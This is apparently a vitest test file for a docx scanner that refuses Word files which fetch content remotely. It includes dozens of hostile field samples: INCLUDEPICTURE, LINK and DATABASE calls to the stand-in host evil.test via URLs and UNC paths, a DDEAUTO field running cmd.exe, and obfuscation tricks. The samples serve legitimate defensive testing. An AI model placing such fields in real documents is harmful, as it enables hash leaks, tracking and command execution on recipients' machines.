import { describe, expect, test } from 'vitest'
import { checkDocx, relationshipsXml } from '#tests/fixtures/check-documents.ts'

const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const others = `xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"
  xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:x="urn:x"`
const story = (inside: string) => `<w:document ${w} ${others}><w:body><w:p>${inside}</w:p></w:body></w:document>`
const lookAtStory = (inside: string, name = 'word/document.xml') => checkDocx({ [name]: story(inside) })

const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')
const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${escaped(text)}</w:instrText></w:r>`
const deleted = (text: string) => `<w:del><w:r><w:delInstrText>${escaped(text)}</w:delInstrText></w:r></w:del>`
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const textRun = (words: string) => `<w:r><w:t>${words}</w:t></w:r>`
const fieldOf = (runs: string, result = textRun('a')) =>
  `${mark('begin')}${runs}${mark('separate')}${result}${mark('end')}`
const field = (...texts: string[]) => fieldOf(texts.map(run).join(''))
const simple = (text: string) => `<w:fldSimple w:instr="${escaped(text)}">${textRun('a')}</w:fldSimple>`

const evil = 'INCLUDEPICTURE "https://evil.test/a.png"'

describe('a docx whose text loads something from another machine is refused', () => {
  test.each([
    evil,
    `${evil} \\* MERGEFORMAT \\d`,
    'includePicture https://evil.test/a.png',
    '\n INCLUDEPICTURE"https://evil.test/a.png"',
    'INCLUDEPICTURE “https://evil.test/a.png”',
    'INCLUDEPICTURE \\d "https://evil.test/a.png"',
    'INCLUDEPICTURE "" "https://evil.test/a.png"',
    'INCLUDEPICTURE " https://evil.test/a.png"',
    'INCLUDEPICTURE "\\\\\\\\evil.test\\\\s\\\\a.png"',
    'INCLUDEPICTURE "\\\\evil.test\\s\\a.png"',
    'INCLUDEPICTURE \\\\\\\\evil.test\\\\s\\\\a.png',
    'INCLUDEPICTURE "\\\\\\\\?\\\\UNC\\\\evil.test\\\\a\\\\b"',
    'INCLUDEPICTURE "\\\\??\\\\UNC\\\\evil.test\\\\a\\\\b"',
    'INCLUDEPICTURE "\\??\\UNC\\evil.test\\a\\b"',
    'INCLUDEPICTURE "file:\\\\\\\\evil.test\\\\a"',
    'INCLUDEPICTURE "file://evil.test/a"',
    'INCLUDETEXT "https://evil.test/a.docx" bookmark',
    'INCLUDE "https://evil.test/a.docx"',
    'IMPORT "https://evil.test/a.png"',
    'RD "https://evil.test/a.docx"',
    'LINK Excel.Sheet.12 "\\\\\\\\evil.test\\\\s\\\\a.xlsx" "Sheet1!R1C1" \\a \\f 0',
    'DATABASE \\d "\\\\\\\\evil.test\\\\s\\\\a.mdb" \\s "SELECT * FROM a"',
    'DATABASE \\c "DSN=a;DBQ=\\\\\\\\evil.test\\\\s\\\\a.mdb" \\s "SELECT * FROM a"',
    'DATABASE \\c "Provider=SQLOLEDB;Data Source=evil.test" \\s "SELECT * FROM a"',
    'DDE Excel "C:\\\\a.xlsx" R1C1',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    'dDeAuTo a b',
    `INCLUDEPICTURE "${'a'.repeat(5000)}"`,
    `INCLUDEPICTURE ${'a '.repeat(100)}`,
    `${' '.repeat(10_000)}${evil}`,
  ])('with a field %j', async (text) => {
    expect(await lookAtStory(field(text))).toBe('file_unsafe')
    expect(await lookAtStory(simple(text))).toBe('file_unsafe')
  })

  const nested = fieldOf(run('QUOTE "https://evil.test/a.png"'), textRun('https://evil.test/a.png'))
  const [first, second] = [evil.slice(0, 7), evil.slice(7)]
  test.each<[how: string, inside: string]>([
    ['cut over runs', field(...evil)],
    ['cut over runs between other elements', fieldOf(`${run(first)}<w:bookmarkStart w:id="0"/><w:r/>${run(second)}`)],
    ['without marks', run(evil)],
    ['without a result', `${mark('begin')}${run(evil)}${mark('end')}`],
    ['without an end', `${mark('begin')}${run(evil)}${mark('separate')}`],
    ['in a character section', fieldOf(`<w:r><w:instrText><![CDATA[${evil}]]></w:instrText></w:r>`)],
    ['with a comment in it', fieldOf(`<w:r><w:instrText>${first}<!-- a -->${escaped(second)}</w:instrText></w:r>`)],
    ['with an element in it', fieldOf(`<w:r><w:instrText>${first}<w:a/>${escaped(second)}</w:instrText></w:r>`)],
    ['in references', fieldOf(run(evil).replace('INCLUDE', '&#x49;NCLUDE'))],
    ['as words', fieldOf(textRun(escaped(evil)))],
    ['after a tab', fieldOf(`${run('INCLUDEPICTURE')}<w:r><w:tab/></w:r>${run('https://evil.test/a')}`)],
    ['over paragraphs', fieldOf(`${run('INCLUDEPICTURE')}</w:p><w:p>${run('https://evil.test/a')}`)],
    ['in the result of a link', fieldOf(run('HYPERLINK "https://a.example"'), field(evil))],
    ['after the result of a link', fieldOf(run('PAGE'), textRun('1')) + field(evil)],
    ['in a condition', fieldOf(run('IF 1 = 1 ') + field(evil))],
    ['by what another field gives', fieldOf(`${run('INCLUDEPICTURE "')}${nested}${run('"')}`)],
    ['by what a simple field gives', fieldOf(run('INCLUDEPICTURE ') + simple('QUOTE https://evil.test'))],
    [
      'under a name that another field gives',
      fieldOf(`${field('QUOTE INCLUDEPICTURE')}${run(' "https://evil.test"')}`),
    ],
    ['deleted', fieldOf(deleted(evil))],
    ['behind a deleted decoy', fieldOf(deleted('HYPERLINK ') + run(evil))],
    ['around a deleted decoy', fieldOf(run(first) + deleted('a') + run(second))],
    ['around words', fieldOf(run(first) + textRun('a') + run(second))],
    [
      'behind a decoy in an alternative',
      fieldOf(
        `<mc:AlternateContent><mc:Choice Requires="x">${run('HYPERLINK ')}</mc:Choice></mc:AlternateContent>${run(evil)}`,
      ),
    ],
    ['behind a foreign decoy', fieldOf(`<x:instrText>HYPERLINK </x:instrText>${run(evil)}`)],
    ['behind a foreign end', `${mark('begin')}${run(first)}<x:fldChar x:fldCharType="end"/>${run(second)}`],
    [
      'with a foreign kind',
      `${mark('begin')}${run(first)}<w:fldChar x:fldCharType="end" w:fldCharType="a"/>${run(second)}`,
    ],
    [
      'with many kinds of runs',
      fieldOf(Array.from({ length: 9 }, (_, n) => `${'<x:a>'.repeat(n)}${run('a')}${'</x:a>'.repeat(n)}`).join('')),
    ],
    ['deeper than Word nests', mark('begin').repeat(30)],
  ])('in any spelling of the field: %s', async (_how, inside) => {
    expect(await lookAtStory(inside)).toBe('file_unsafe')
  })

  test.each([
    '<v:shape><v:imagedata src="https://evil.test/a.png"/></v:shape>',
    '<v:imagedata o:href="https://evil.test/a.png"/>',
    '<v:imagedata o:althref="https://evil.test/a.png"/>',
    '<v:imagedata src="\\\\evil.test\\s\\a.png"/>',
    '<v:imagedata src="&#104;ttps://evil.test/a.png"></v:imagedata>',
    '<x:imagedata src="https://evil.test/a.png"/>',
    '<imagedata src="https://evil.test/a.png"/>',
    '<v:fill src="https://evil.test/a.png" type="tile"/>',
    '<v:fill o:href="https://evil.test/a.png"/>',
    '<v:stroke src="https://evil.test/a.png"/>',
    '<v:stroke o:href="https://evil.test/a.png"/>',
    '<v:image src="https://evil.test/a.png"/>',
    '<x:image x:href="https://evil.test/a.png"/>',
  ])('with a picture %s', async (inside) => expect(await lookAtStory(inside)).toBe('file_unsafe'))

  test.each([
    '<w:connectString w:val="Provider=SQLOLEDB;Data Source=evil.test"/>',
    '<w:connectString w:val="DSN=a;DBQ=\\\\evil.test\\s\\a.mdb"/>',
    '<w:udl w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=&quot;\\\\evil.test\\s\\a.xlsx&quot;"/>',
  ])('with the addresses of a mail merge %s', async (inside) =>
    expect(await lookAtStory(inside, 'word/settings.xml')).toBe('file_unsafe'),
  )

  test.each([
    ...['word/header1.xml', 'word/footer1.xml', 'word/footnotes.xml', 'word/endnotes.xml', 'word/comments.xml'],
    ...['word/glossary/document.xml', 'WORD\\DOCUMENT.XML', 'a/b.xml', 'word/document', 'word/media/image1.png'],
  ])('in any part: %s', async (name) => {
    expect(await lookAtStory(field(evil), name)).toBe('file_unsafe')
    const utf16 = Buffer.from(`\uFEFF${story(field(evil))}`, 'utf16le')
    expect(await checkDocx({ [name]: utf16 })).toBe('file_unsafe')
  })

  test('below a root element that is not Word’s', async () => {
    expect(await checkDocx({ 'word/document.xml': `<x:a ${w} ${others}>${field(evil)}</x:a>` })).toBe('file_unsafe')
  })

  test.each<[how: string, xml: string | Uint8Array, answer: string]>([
    ['in another encoding', `<?xml version="1.0" encoding="UTF-7"?>${story('')}`, 'file_unsafe'],
    ['with a document type', `<!DOCTYPE a [<!ENTITY b "c">]>${story('')}`, 'file_unsafe'],
    ['with a drawing’s document type', `<!DOCTYPE svg [<!ENTITY b "c">]>${story('')}`, 'file_unsafe'],
    ['with too much between tags', story(`<!--${' '.repeat(9_000_000)}-->`), 'file_unsafe'],
    ['nested too deep', story('<w:a>'.repeat(300) + '</w:a>'.repeat(300)), 'file_unsafe'],
    ['not well-formed', story('<w:a>'), 'file_not_taken'],
    ['in bytes that are no UTF-8', Buffer.from(story('é'), 'latin1'), 'file_not_taken'],
    ['cut within a character', Buffer.from(`${story('')}é`).subarray(0, -1), 'file_not_taken'],
  ])('and a part that cannot be read: %s', async (_how, xml, answer) => {
    expect(await checkDocx({ 'word/document.xml': xml })).toBe(answer)
  })
})

describe('a docx whose text loads nothing from another machine is accepted', () => {
  test.each([
    'HYPERLINK "https://porchlight.example" \\o "import link"',
    'HYPERLINK https://porchlight.example/INCLUDEPICTURE',
    'INCLUDEPICTURE "a.png" \\* MERGEFORMAT',
    'INCLUDEPICTURE "..\\\\pictures\\\\a b.png" \\d',
    'INCLUDEPICTURE "C:\\\\Users\\\\Sam Doe\\\\a.png"',
    'INCLUDEPICTURE "C:\\Users\\a.png"',
    'INCLUDEPICTURE "C:/Users/a.png"',
    'INCLUDEPICTURE "file:///C:/Users/Sam%20Doe/a.png"',
    'INCLUDEPICTURE "file:///C:\\\\Users\\\\a.png"',
    'INCLUDEPICTURE "file://localhost/Users/sam/a.png"',
    'INCLUDEPICTURE "file://127.0.0.1/c$/a.png"',
    'INCLUDEPICTURE "\\\\\\\\?\\\\C:\\\\Users\\\\a.png"',
    'INCLUDEPICTURE "\\\\?\\C:\\Users\\a.png"',
    'INCLUDEPICTURE "Macintosh HD:Users:sam:a.png"',
    'INCLUDEPICTURE "cid:image001.png@01D00000.00000000" \\* MERGEFORMATINET',
    'INCLUDETEXT "C:\\\\a.docx" bookmark \\!',
    'LINK Excel.Sheet.12 "C:\\\\a.xlsx" "Sheet1!R1C1:R3C2" \\a \\f 5 \\h',
    'RD "chapter1.docx" \\f',
    'DATABASE \\d "C:\\\\a.mdb" \\c "DSN=a;DBQ=C:\\\\a.mdb;Data Source=C:\\\\a.mdb" \\s "SELECT * FROM a"',
    'IF 1 = 1 "INCLUDEPICTURE https://a.example"',
    `ADDIN CSL_CITATION {"URL":"https://a.example","title":"INCLUDE ${'a'.repeat(100_000)}"}`,
    'TOC \\o "1-3" \\h \\z \\u',
    'LINKS "https://a.example"',
    'PAGE',
    '',
  ])('with a field %j', async (text) => {
    expect(await lookAtStory(field(text))).toBe('taken')
    expect(await lookAtStory(simple(text))).toBe('taken')
  })

  const cid = 'INCLUDEPICTURE "cid:a@b" \\* MERGEFORMATINET'
  test.each<[what: string, inside: string]>([
    ['words that look like a field', textRun(escaped(evil))],
    ['words that look like one beside a field', fieldOf(run('PAGE'), textRun(escaped(evil))) + textRun(escaped(evil))],
    ['fields in results of fields', fieldOf(run(cid), fieldOf(run(cid), field(cid)))],
    ['a calculation', fieldOf(`${run('= ')}${field('PAGE')}${run(' - 1')}`)],
    ['a link that was deleted', fieldOf(deleted('HYPERLINK "https://a.example"'))],
    ['a link that was changed', fieldOf(`${run('HYPERLINK "https://a')}${deleted('.example')}${run('.test"')}`)],
    ['a picture inside', '<v:imagedata x:id="rId4" o:title="https://a.example"/>'],
    ['a picture of a mail', '<v:imagedata o:href="cid:image001.png@01D00000.00000000"/>'],
    ['a picture on a disk', '<v:imagedata src="C:\\a.png" o:href="file:///C:\\a.png"/>'],
    ['a picture that links elsewhere', '<v:shape href="https://a.example"/>'],
    [
      'a list of addresses on a disk',
      '<w:connectString w:val="Provider=a;Data Source=&quot;C:\\a.xlsx&quot;;Mode=Read"/>',
    ],
    ['a comment', `<!-- ${field(evil).replaceAll('--', '')} -->`],
    ['a long word', textRun('a'.repeat(1_000_000))],
    ['tables in tables', '<w:tbl><w:tr><w:tc>'.repeat(20) + '</w:tc></w:tr></w:tbl>'.repeat(20)],
  ])('with %s', async (_what, inside) => expect(await lookAtStory(inside)).toBe('taken'))

  const svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
  test.each<[name: string, content: string | Uint8Array]>([
    ['word/media/image1.png', Buffer.from('89504e470d0a1a0a', 'hex')],
    ['word/media/image2.svg', `${svg}<image xlink:href="data:image/png;base64,AA=="/></svg>`],
    ['word/media/image3.svg', `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/a.dtd">${svg}</svg>`],
    ['word/afchunk.htm', '<!DOCTYPE html><p>One<br>two'],
    ['word/media/empty.bin', ''],
  ])('with a part that is not Word’s text: %s', async (name, content) => {
    expect(await checkDocx({ [name]: content })).toBe('taken')
  })

  test('a docx with 3,500 links is accepted', async () => {
    const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink'
    const links = Array.from(
      { length: 3500 },
      (_, at) => `<Relationship Id="rId${at}" Type="${type}" Target="https://a.example/${at}" TargetMode="External"/>`,
    )
    expect(await checkDocx({ 'word/_rels/document.xml.rels': relationshipsXml(links.join('')) })).toBe('taken')
  })
})
